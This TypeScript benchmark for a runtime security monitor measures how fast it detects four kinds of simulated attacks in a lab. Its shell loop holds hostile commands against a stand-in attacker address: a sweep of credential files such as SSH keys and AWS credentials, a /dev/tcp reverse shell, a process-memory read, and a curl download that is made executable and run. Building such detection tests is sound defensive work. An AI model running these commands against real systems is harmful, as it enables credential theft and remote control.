/**
 * From an act to its detection: the time between the kernel's time stamp of the act and the line in events.ndjson,
 * over acts of four kinds in a real run, as many of each as there are rounds times 25.
 * Run: node bench/detection.ts [rounds]
 */
import { once } from 'node:events'
import {
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readSync,
  rmSync,
  watch,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Event } from '@runwarden/events'
import { startLab } from '../packages/lab/src/index.ts'

/** 5, as all benchmarks by default, make 500 acts. */
const acts = Number(process.argv[2] ?? 5) * 25
const attacker = '198.51.100.10'
const place = mkdtempSync(join(tmpdir(), 'runwarden-detection-'))
const out = join(place, 'out')

/** What is found of each kind of act, by rule. */
const kinds: Readonly<Record<string, string>> = {
  'credential-sweep': 'secrets read by a stranger',
  'shell-on-network-socket': 'reverse shell',
  'process-memory-opened': 'memory of a process read',
  'downloaded-program-started': 'fetched, made executable, started',
}
const work = `
for i in $(seq ${acts}); do
  sh -c 'head -c1 .aws/credentials .ssh/id_rsa .npmrc .kube/config .pgpass; :'
  bash -c 'exec 3<>/dev/tcp/${attacker}/4444; exec sh -c : <&3 >&3'
  sh -c 'dd count=0 if=/proc/$PPID/mem; :'
  curl -so tool-$i http://${attacker}/tool; chmod +x tool-$i; ./tool-$i
done`

/** Reads the file of events as it grows. Times are milliseconds since the boot of a machine that has not slept since. */
class Findings {
  readonly #found: { rule: string | undefined; act: number; seen: number }[] = []
  /** Of the agent's clock: a process begins before its first program, by less than a millisecond for the quickest. */
  #epochOfBoot = Infinity
  readonly #file: number
  readonly #buffer = Buffer.alloc(1 << 20)
  #rest = ''

  constructor(file: string) {
    this.#file = openSync(file, 'r')
  }

  read(): void {
    for (let bytes; (bytes = readSync(this.#file, this.#buffer)) > 0;) {
      const seen = Number(process.hrtime.bigint()) / 1e6
      const lines = (this.#rest + this.#buffer.toString('utf8', 0, bytes)).split('\n')
      this.#rest = lines.pop() ?? ''
      for (const line of lines) this.#take(JSON.parse(line) as Event, seen)
    }
  }

  #take(event: Event, seen: number): void {
    if (event.kind === 'process.exec') {
      const began = Number(event.execId?.split('-')[1]) / 1e6
      this.#epochOfBoot = Math.min(this.#epochOfBoot, event.time - began)
    } else if (event.kind === 'detection') {
      this.#found.push({ rule: event.rule, act: event.time, seen })
    }
  }

  /** How long each finding of a rule took. */
  latencies(rule: string): number[] {
    return this.#found
      .filter((one) => one.rule === rule)
      .map(({ act, seen }) => seen - (act - this.#epochOfBoot))
  }
}

const files = join(place, 'files')
mkdirSync(files)
copyFileSync('/bin/true', join(files, 'tool'))
await using lab = await startLab({
  packets: false,
  servers: [{ addresses: [attacker], ports: { http: 80, tcp: 4444 }, files }],
})
const home = join(place, 'home')
for (const name of ['.aws/credentials', '.ssh/id_rsa', '.npmrc', '.kube/config', '.pgpass']) {
  mkdirSync(join(home, name, '..'), { recursive: true })
  writeFileSync(join(home, name), 'x')
}
const command = join(import.meta.dirname, '../node_modules/.bin/runwarden')
const child = lab.runner.spawn(
  command,
  ['run', '--quiet', '--out', out, '--', 'bash', '-c', work],
  { cwd: home, env: { HOME: home } },
)
let said = ''
child.stderr?.on('data', (data) => (said += String(data)))
const ended = once(child, 'close')
const file = join(out, 'events.ndjson')
while (!existsSync(file)) await new Promise((resolve) => setTimeout(resolve, 5))
const findings = new Findings(file)
const watcher = watch(file, () => findings.read())
const [status] = await ended
watcher.close()
findings.read()
rmSync(place, { recursive: true })
if (status !== 0) throw new Error(`the run ended with ${status}: ${said}`)

const at = (sorted: readonly number[], share: number): string =>
  `${(sorted[Math.ceil(sorted.length * share) - 1] ?? NaN).toFixed(1)} ms`.padStart(11)
const row = (name: string, latencies: readonly number[], target = ''): void => {
  const sorted = latencies.toSorted((a, b) => a - b)
  console.log(
    `${name.padEnd(36)} ${String(sorted.length).padStart(5)} ${at(sorted, 0.5)} ${at(sorted, 0.99)}   ${target}`,
  )
}
console.log('from an act to its detection          acts         p50         p99   target')
const all = Object.entries(kinds).flatMap(([rule, name]) => {
  const latencies = findings.latencies(rule)
  if (latencies.length < acts)
    throw new Error(`${rule} was found ${latencies.length} times in ${acts} acts: ${said}`)
  row(name, latencies)
  return latencies
})
row('all', all, 'p99 ≤ 100 ms')
